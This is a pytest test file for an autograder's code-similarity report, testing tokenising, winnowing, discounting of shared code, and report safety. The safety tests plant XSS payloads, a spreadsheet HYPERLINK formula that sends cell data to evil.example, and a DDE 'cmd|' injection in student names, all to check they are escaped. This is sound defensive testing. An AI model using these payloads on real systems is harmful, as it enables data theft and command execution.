"""``python -m autograder similarity`` and ``grade --similarity``: the measured class, the pieces
(tokens, winnowing, starter removal, the class discount) and the report's safety (escaping, a
self-contained page, an output folder it never takes over)."""
import csv
import itertools
import json
import re
import shutil

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autograder.instructor.discovery import discover
from autograder.instructor.handout import build_tree
from autograder.instructor.similarity import (
    DEFAULT_K,
    DEFAULT_THRESHOLD,
    DEFAULT_WINDOW,
    Settings,
    normalised_tokens,
    similarity_report,
)
from autograder.instructor.similarity_report import MARKER, SimilarityError
from autograder.instructor.winnowing import kgram_hashes, winnow
from tests.autograder.instructor.helpers import REPO, run_grader, zip_folder
from tests.autograder.instructor.similarity_class import (
    INDEPENDENT,
    build_class,
    plagiarise,
    related,
    write_submission,
)

pytestmark = pytest.mark.slow  # the grader end to end: see pyproject's markers

LINEAR_FORWARD = "mytorch/nn/linear.py:Linear.forward"


def compare(folders, out, **kw):
    students, warnings = discover([str(f) for f in folders], out)
    return similarity_report(students, out, Settings(**kw))


def score_of(result, a, b):
    for m in result.pairs:
        if {m.a.id, m.b.id} == {a, b}:
            return m
    return None


@pytest.fixture(scope="module")
def measured(tmp_path_factory):
    root = tmp_path_factory.mktemp("similarity-class")
    origins = build_class(REPO, root / "class")
    result = compare([root / "class"], root / "report")
    return origins, result, root / "report"


# -- the measured class -----------------------------------------------------------------------
def test_every_planted_copy_ranks_above_every_independent_pair(measured):
    origins, result, _ = measured
    assert not result.skipped and len(result.authors) == len(origins)
    copies, independent = [], []
    for a, b in itertools.combinations(sorted(origins), 2):
        m = score_of(result, a, b)
        score = m.score if m else 0.0
        if origins[a] == origins[b]:
            copies.append((score, a, b))
        elif not related(origins[a], origins[b]):
            independent.append((score, a, b))
    assert len(copies) == 5 + 3 and len(independent) > 40
    weakest_copy, strongest_independent = min(copies), max(independent)
    assert weakest_copy[0] > strongest_independent[0], (weakest_copy, strongest_independent)
    # At the default threshold: every copy flagged (recall 1), no independent pair flagged
    # (precision 1); the pairs between fay and the reference's family are left out of both.
    flagged = {frozenset((m.a.id, m.b.id)) for m in result.pairs if m.flagged}
    assert all(frozenset((a, b)) in flagged for _, a, b in copies)
    assert not any(frozenset((a, b)) in flagged for _, a, b in independent)
    assert weakest_copy[0] >= DEFAULT_THRESHOLD > strongest_independent[0]


def test_copies_of_the_reference_are_flagged_separately(measured):
    origins, result, out = measured
    flagged = {m.a.id for m in result.reference_matches if m.flagged}
    from_reference = {s for s, o in origins.items() if o == "reference"}
    independent = {s for s, o in origins.items() if o not in ("reference", "fay")}
    assert from_reference <= flagged
    assert not flagged & independent
    # and a pair of two reference copies says that what they share is the reference's
    m = score_of(result, "leak", "linear_dLdW_transposed")
    assert m.flagged and m.via_reference > 0.95
    rows = list(csv.DictReader((out / "reference.csv").open(encoding="utf-8")))
    assert {r["student"] for r in rows if r["flagged"] == "1"} == flagged


def test_a_disguised_copy_matches_region_by_region(measured):
    """Where the disguise is renaming, reordering and layout, every sizeable region still matches
    (a region short enough for one swapped expression to rewrite most of it may not: ana's
    Linear.backward is three np.dot calls, all turned into @)."""
    _, result, _ = measured
    for student in ("cai", "dee"):
        m = score_of(result, student, student + "_copy")
        # (this class writes no model constructors: those regions hold the starter's stubs, which
        # similarity does not count)
        sizeable = [k for k in m.regions if len(m.a.code[k].tokens) > 20
                    and not k.endswith(".__init__")]
        assert len(sizeable) > 8
        assert all(m.regions[k] > 0.5 for k in sizeable), m.regions


def test_csv_and_pages_agree(measured):
    _, result, out = measured
    rows = list(csv.DictReader((out / "similarity.csv").open(encoding="utf-8")))
    assert len(rows) == len(result.pairs)
    scores = [float(r["score"]) for r in rows]
    assert scores == sorted(scores, reverse=True)
    for row in rows[:5]:
        assert row["page"] and (out / row["page"]).is_file()
        page = (out / row["page"]).read_text(encoding="utf-8")
        assert row["student_a"] in page and row["student_b"] in page and "<mark>" in page
    index = (out / "similarity.html").read_text(encoding="utf-8")
    for row in rows[:5]:
        assert f'href="{row["page"]}"' in index


def test_pages_are_self_contained_and_say_they_are_not_a_verdict(measured):
    _, _, out = measured
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "evidence for a person to review, not a verdict" in text, page
        assert "<script" not in text and "<link" not in text and "@import" not in text
        assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", text), page
        for href in re.findall(r'href="([^"#]+)"', text):
            assert (page.parent / href).resolve().is_file(), (page, href)


# -- the pieces -------------------------------------------------------------------------------
def test_names_literals_comments_and_layout_are_abstracted():
    one = "def f(self, Z):\n    self.A = np.exp(-Z) * 2.0  # note\n    return 'x'\n"
    two = ("def g(obj, X):\n    # another comment\n    obj.B = (numpy.log(\n        -X)) * 7\n"
           "    return \"yz\"\n")

    def kinds(src):
        return [t.kind for t in normalised_tokens(src, set(range(1, 10)))]

    assert kinds(one) == ["def", "V", "(", "V", ",", "V", ")", ":", "V", ".", "V", "=", "V", ".",
                          "V", "(", "-", "V", ")", "*", "N", "return", "S"]
    # the same up to the redundant parentheses `two` adds around the call
    assert [k for k in kinds(two) if k not in "()"] == [k for k in kinds(one) if k not in "()"]
    assert kinds("x = f'{a} and {b!r}'\n") == ["V", "=", "S"]


def test_only_the_given_rows_are_tokenised():
    src = "a = 1\nb = c + d\ne = 2\n"
    tokens = normalised_tokens(src, {2})
    assert [t.kind for t in tokens] == ["V", "=", "V", "+", "V"]
    assert {t.start[0] for t in tokens} == {2}


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from("abcdefgh"), max_size=40),
       st.lists(st.sampled_from("abcdefgh"), max_size=40),
       st.lists(st.sampled_from("abcdefgh"), min_size=DEFAULT_K + DEFAULT_WINDOW - 1, max_size=30),
       st.integers(1, 6), st.integers(3, 9))
def test_winnowing_guarantee(prefix_a, prefix_b, shared, window, k):
    """Schleimer et al.: a shared run of at least w + k - 1 tokens always shares a fingerprint."""
    shared = shared * ((window + k - 1) // len(shared) + 1)
    a = prefix_a + shared + prefix_a
    b = prefix_b + shared
    fa = {h for h, _ in winnow(kgram_hashes(a, k), window)}
    fb = {h for h, _ in winnow(kgram_hashes(b, k), window)}
    assert fa & fb


@settings(max_examples=40, deadline=None)
@given(st.lists(st.integers(0, 2**64 - 1), min_size=1, max_size=60), st.integers(1, 8))
def test_winnowing_picks_a_minimum_in_every_window(hashes, window):
    chosen = winnow(hashes, window)
    positions = {p for _, p in chosen}
    for start in range(max(1, len(hashes) - window + 1)):
        win = range(start, min(len(hashes), start + window))
        assert positions & set(win)
        assert min(hashes[p] for p in positions & set(win)) == min(hashes[i] for i in win)


def test_the_starter_code_is_not_compared(tmp_path):
    handout = build_tree(tmp_path / "handout")
    starter = tmp_path / "class" / "starter"
    shutil.copytree(handout / "mytorch", starter / "mytorch")
    shutil.copytree(handout / "mytorch", tmp_path / "class" / "starter_too" / "mytorch")
    write_submission(REPO, tmp_path / "class" / "ana", INDEPENDENT["ana"])
    result = compare([tmp_path / "class"], tmp_path / "out")
    assert {s.id for s, _ in result.skipped} == {"starter", "starter_too"}
    assert all("no code of its own" in reason for _, reason in result.skipped)
    # ana's regions hold her lines only: no docstring, shape check or final return of the starter
    code = next(a for a in result.authors if a.id == "ana").code[LINEAR_FORWARD]
    lines = [line.strip() for line in code.lines.values()]
    assert lines[0] == "self.A = A" and "return Z" not in lines
    assert not any(line.startswith(("check_shape", '"""', "def ")) for line in lines)


def test_code_most_of_the_class_wrote_is_discounted(tmp_path):
    """Five students write every region their own way except Tanh.forward, which they all write as
    the reference does: that region scores 0 for every pair; it still matches the reference."""
    names = list(INDEPENDENT) + ["ana2"]
    bodies = dict(INDEPENDENT, ana2=INDEPENDENT["ana"])
    for name in names:
        own = dict(bodies[name])
        own["mytorch/nn/activation.py:Tanh.forward"] = "self.A = np.tanh(Z)\n"
        own["mytorch/nn/activation.py:Tanh.backward"] = "dLdZ = dLdA * (1.0 - self.A * self.A)\n"
        write_submission(REPO, tmp_path / "class" / name, own)
    result = compare([tmp_path / "class"], tmp_path / "out")
    assert result.common_at == 4
    tanh = "mytorch/nn/activation.py:Tanh.backward"
    for m in result.pairs:
        assert m.regions.get(tanh, 0.0) == 0.0, (m.a.id, m.b.id)
    assert score_of(result, "ana", "ana2").score == 1.0
    for m in result.reference_matches:
        assert m.regions[tanh] == 1.0


# -- safety of the report ---------------------------------------------------------------------
def test_student_text_is_escaped(tmp_path):
    export = tmp_path / "export"
    hostile = "<script>alert('name')</script>"
    for n, _name in enumerate(("ana", "ben")):
        write_submission(REPO, export / f"submission_{n}", INDEPENDENT["ana"])
    linear = export / "submission_1" / "mytorch" / "nn" / "linear.py"
    text = linear.read_text(encoding="utf-8")
    linear.write_text(text.replace("        self.A = A\n",
                                   "        self.A = A  # </pre><script>alert(1)</script>\n"
                                   "        note = '<img src=x onerror=alert(2)>'\n", 1),
                      encoding="utf-8")
    (export / "submission_metadata.yml").write_text(
        "submission_0:\n  :submitters:\n  - :name: " + hostile + "\n    :sid: '1'\n"
        "submission_1:\n  :submitters:\n  - :name: Ben & <b>Co</b>\n    :sid: '2'\n",
        encoding="utf-8")
    compare([export], tmp_path / "out")
    pages = list((tmp_path / "out").rglob("*.html"))
    assert len(pages) >= 3
    seen_code = False
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script" not in text and "<img" not in text and "<b>Co" not in text
        seen_code |= "&lt;img src=x onerror=alert(2)&gt;" in text
    assert seen_code
    index = (tmp_path / "out" / "similarity.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;" in index


def test_refuses_a_folder_it_did_not_write_and_deletes_only_its_own_files(tmp_path):
    for name in ("ana", "ben", "cai"):
        write_submission(REPO, tmp_path / "class" / name, INDEPENDENT[name])
    foreign = tmp_path / "taken"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(SimilarityError, match="not empty and was not written by"):
        compare([tmp_path / "class"], foreign)
    assert [p.name for p in foreign.iterdir()] == ["notes.txt"]

    out = tmp_path / "out"
    compare([tmp_path / "class"], out)
    first = set(json.loads((out / MARKER).read_text(encoding="utf-8"))["files"])
    assert "pairs/ana/ben.html" in first
    (out / "pairs" / "ana" / "my-notes.txt").write_text("keep", encoding="utf-8")
    shutil.rmtree(tmp_path / "class" / "ben")     # ben withdrew: his pages go, the notes stay
    compare([tmp_path / "class"], out)
    assert not (out / "pairs" / "ana" / "ben.html").exists()
    assert (out / "pairs" / "ana" / "my-notes.txt").read_text(encoding="utf-8") == "keep"
    assert (out / "pairs" / "ana" / "cai.html").is_file()


# -- the commands -----------------------------------------------------------------------------
def test_command_reads_folders_and_archives(tmp_path):
    write_submission(REPO, tmp_path / "ana", INDEPENDENT["ana"])
    plagiarise(REPO, tmp_path / "copy", INDEPENDENT["ana"])
    (tmp_path / "class").mkdir()
    zip_folder(tmp_path / "copy", tmp_path / "class" / "copier.zip", prefix="hw1")
    write_submission(REPO, tmp_path / "class" / "ben", INDEPENDENT["ben"])
    (tmp_path / "class" / "broken.zip").write_bytes(b"PK\x03\x04 not really")
    proc = run_grader("similarity", tmp_path / "ana", tmp_path / "class", "--out", tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    assert "not a verdict" in proc.stderr
    rows = list(csv.DictReader((tmp_path / "out" / "similarity.csv").open(encoding="utf-8")))
    assert {rows[0]["student_a"], rows[0]["student_b"]} == {"ana", "copier"}
    assert rows[0]["flagged"] == "1"
    assert "broken" in (tmp_path / "out" / "similarity.html").read_text(encoding="utf-8")


def test_command_errors_are_clear(tmp_path):
    proc = run_grader("similarity", tmp_path / "nowhere", "--out", tmp_path / "out")
    assert proc.returncode == 2 and "does not exist" in proc.stderr
    assert "Traceback" not in proc.stderr
    write_submission(REPO, tmp_path / "ana", INDEPENDENT["ana"])
    write_submission(REPO, tmp_path / "ben", INDEPENDENT["ben"])
    proc = run_grader("similarity", tmp_path / "ana", tmp_path / "ben", "--out", tmp_path / "o",
                      "--threshold", "2")
    assert proc.returncode == 2 and "--threshold must lie in (0, 1]" in proc.stderr


def test_grade_with_similarity_writes_the_report_beside_the_grades(tmp_path):
    write_submission(REPO, tmp_path / "class" / "ana", INDEPENDENT["ana"])
    plagiarise(REPO, tmp_path / "class" / "ana_copy", INDEPENDENT["ana"])
    proc = run_grader("grade", tmp_path / "class", "--out", tmp_path / "out", "--jobs", "2",
                      "-k", "task1_1", "--similarity")
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "out" / "grades.csv").is_file()
    rows = list(csv.DictReader((tmp_path / "out" / "similarity" / "similarity.csv")
                               .open(encoding="utf-8")))
    assert len(rows) == 1 and rows[0]["flagged"] == "1"
    assert (tmp_path / "out" / "similarity" / "similarity.html").is_file()


def test_every_file_goes_through_the_one_sanitiser(tmp_path):
    """A display name that is a spreadsheet formula, or holds escape sequences and a
    right-to-left override, reaches similarity.csv, reference.csv and the pages only made
    harmless (issue 19: grades.csv already was)."""
    export = tmp_path / "export"
    for n in range(2):
        write_submission(REPO, export / f"submission_{n}", INDEPENDENT["ana"])
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    (export / "submission_metadata.yml").write_text(
        "submission_0:\n  :submitters:\n  - :name: '" + formula + "'\n    :sid: '1'\n"
        "submission_1:\n  :submitters:\n  - :name: \"+cmd|' /C calc'!A0\x1b[2J\u202e\"\n"
        "    :sid: '2'\n", encoding="utf-8")
    compare([export], tmp_path / "out")
    cells = []
    for name in ("similarity.csv", "reference.csv"):
        with open(tmp_path / "out" / name, newline="", encoding="utf-8") as fh:
            rows = list(csv.DictReader(fh))
        assert rows, name
        cells += [v for row in rows for v in row.values()]
    names = [c for c in cells if "HYPERLINK" in c or "cmd|" in c]
    assert len(names) >= 3 and all(c.startswith("'") for c in names), names
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file():
            text = path.read_text(encoding="utf-8")
            assert "\x1b" not in text and "\u202e" not in text, path
    index = (tmp_path / "out" / "similarity.html").read_text(encoding="utf-8")
    assert "\\x1b[2J" in index and "\\u202e" in index   # shown, not acted on
